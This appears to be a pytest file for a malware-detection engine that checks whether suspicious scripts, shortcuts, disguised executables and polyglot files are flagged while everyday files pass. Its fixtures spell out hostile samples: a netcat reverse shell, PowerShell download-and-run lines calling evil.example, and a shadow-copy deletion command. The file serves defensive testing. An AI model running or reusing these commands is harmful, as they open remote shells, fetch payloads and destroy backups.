"""Programs, scripts, shortcuts, pages, names: what they would do, and the harmless ones beside."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safecare.examine.api import Verdicts
from safecare.examine.code.shortcuts import strings
from safecare.examine.engine import Engine
from safecare.examine.rules.match import admit, compiled
from safecare.scenarios.make.office import archive
from safecare.sources.files.rules import RulesError, harmless, load

ENGINE = Engine()
PROGRAM = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)


def lnk(arguments: str) -> bytes:
    head = b"L\0\0\0\1\x14\2\0" + bytes(12) + struct.pack("<I", 32 | 128) + bytes(52)
    return head + struct.pack("<H", len(arguments)) + arguments.encode("utf-16-le")


FOUND = {
    "a.js": b'new ActiveXObject("MSXML2.XMLHTTP").open("GET","http://e/a");new ActiveXObject("WScript.Shell").Run("a")',
    "a.ps1": b"powershell -nop -w hidden -enc " + b"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" * 4,
    "a.bat": b"@echo off\r\nvssadmin delete shadows /all /quiet\r\n",
    "a.hta": b'<script language=VBScript>CreateObject("WScript.Shell").Run "powershell IEX(New-Object Net.WebClient)'
    b".DownloadString('http://e/')\"</script>",
    "a.url": b"[InternetShortcut]\r\nURL=file://evil.example/share/a.vbs\r\n",
    "listen.sh": b"#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444\n",
    "a.lnk": lnk("-w hidden -c powershell iex (iwr http://evil.example/a)"),
    "a.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>location.href=atob("aHR0cDovL2U=")</script></svg>',
    "a.html": b"<script>var u=new Uint8Array(atob('"
    + b"TVqQAAMAAAAEAAAA" * 30
    + b"'));new Blob([u]);a.download='x'</script>",
    "invoice.pdf.exe": PROGRAM,
    "invoice\u202efdp.exe": PROGRAM,
    "picture.jpg": PROGRAM,
}


@pytest.mark.parametrize("name", FOUND)
def test_attacks_are_found(name: str) -> None:
    verdict = ENGINE.judge(FOUND[name], name)
    assert verdict.verdict in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS), verdict


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("a.exe", PROGRAM),
        ("a.js", b"export function f(a) { return document.querySelector(a); }"),
        ("a.sh", b"#!/bin/sh\ncurl -o a.tgz https://good.example/a.tgz && tar xf a.tgz\n"),
        ("manual.md", b"Start it by powershell: `Invoke-WebRequest https://good.example/a.exe; Start-Process a.exe`"),
        ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'),
        ("a.html", b"<html><form action='/login'><input type=password></form><script>f()</script></html>"),
        ("a.url", b"[InternetShortcut]\r\nURL=https://good.example/\r\n"),
        ("a.lnk", lnk("report.docx")),
        ("release.sh", b"#!/bin/sh\nrsync -e ssh a.tgz someone@files.example:/home/a\n"),
        ("model.xml.js", b"export const model = '<xml/>';"),
        (
            "count.html",
            b'<html><script>document.write(unescape("%3Cscript src=\'" + base + "a.js\'%3E%3C/script%3E"))</script>',
        ),
    ],
)
def test_everyday_files_are_clean(name: str, raw: bytes) -> None:
    assert ENGINE.judge(raw, name).verdict is Verdicts.CLEAN


def test_a_program_in_a_mail_is_no_everyday_thing() -> None:
    import base64

    raw = b"From: a@b.example\nTo: c@d.example\nContent-Type: a/b; name=a.exe\nContent-Transfer-Encoding: base64\n\n"
    verdict = ENGINE.judge(raw + base64.encodebytes(PROGRAM), "a.eml")
    assert "carried.program" in [one.rule for one in verdict.findings]


def test_rules_of_a_site_are_admitted_or_refused_with_the_reason(tmp_path: Path) -> None:
    good = 'rule a { meta: weight = "0.9" strings: $a = "zaubertrank" condition: $a }'
    (tmp_path / "good.yar").write_text(good)
    assert load([tmp_path]) == (good,)
    verdict = Engine(rules=load([tmp_path])).judge(b"a zaubertrank")
    assert [(one.rule, one.weight) for one in verdict.findings] == [("rule.site1.a", 0.9)]
    assert "matches harmless" in admit("rule b { condition: filesize > 0 }", harmless())
    (tmp_path / "bad.yar").write_text("rule x {")
    with pytest.raises(RulesError, match=r"bad\.yar: not a YARA-X rule"):
        load([tmp_path])
    with pytest.raises(ValueError, match="error"):
        compiled(("rule x {",))


def test_a_slow_rule_is_refused() -> None:
    ticks = iter([0.0, 10.0])
    assert "ms per MB" in admit(
        'rule a { strings: $a = "never there" condition: $a }', [bytes(1 << 20)], lambda: next(ticks)
    )


@given(st.binary(max_size=300))
def test_any_bytes_after_a_true_beginning(raw: bytes) -> None:
    strings(b"L\0\0\0\1\x14\2\0" + raw)
    for start in (
        b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0",
        b"L\0\0\0\1\x14\2\0",
        b"<svg><script>",
        b"x\x9f\x3e\x22",
    ):
        verdict = ENGINE.judge(start + raw)
        assert not [one for one in verdict.findings if one.rule.endswith(".failed")], verdict


SMALL_PDF = (
    b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n%%EOF\n"
)
PNG = b"\x89PNG\r\n\x1a\n" + bytes(20) + b"IEND\xaeB`\x82"
POLYGLOTS = {
    "program before a document": PROGRAM + SMALL_PDF,
    "archive behind a document": SMALL_PDF + archive({"a.exe": PROGRAM}),
    "archive behind a picture": PNG + archive({"a.js": b"x"}),
    "program behind a picture": PNG + PROGRAM,
    "page before a document": b"<html><script>location='http://a.example'</script><!--\n" + SMALL_PDF,
    "script around a document": b"/*" + SMALL_PDF + b"*/WScript.Echo(1)",
    "script around a picture": b"GIF89a/*" + bytes(100) + b"*/=1;alert(1)",
    "document within a picture": b"\xff\xd8\xff\xfe\x00\x80" + SMALL_PDF + b"\xff\xd9",
}


@pytest.mark.parametrize("name", POLYGLOTS)
def test_files_that_are_two_things_are_found(name: str) -> None:
    found = ENGINE.judge(POLYGLOTS[name], "report.bin")
    assert "file.polyglot" in {one.rule for one in found.findings}
    assert found.score >= 0.5


@pytest.mark.parametrize(
    "raw",
    [
        SMALL_PDF,
        PNG,
        b"\r\n" + SMALL_PDF,
        SMALL_PDF.replace(
            b"2 0 obj", b"9 0 obj<</Type/EmbeddedFile>>stream\n" + archive({"a.txt": b"x"}) + b" 2 0 obj"
        ),
    ],
)
def test_one_thing_is_no_polyglot(raw: bytes) -> None:
    assert "file.polyglot" not in {one.rule for one in ENGINE.judge(raw, "a.pdf").findings}
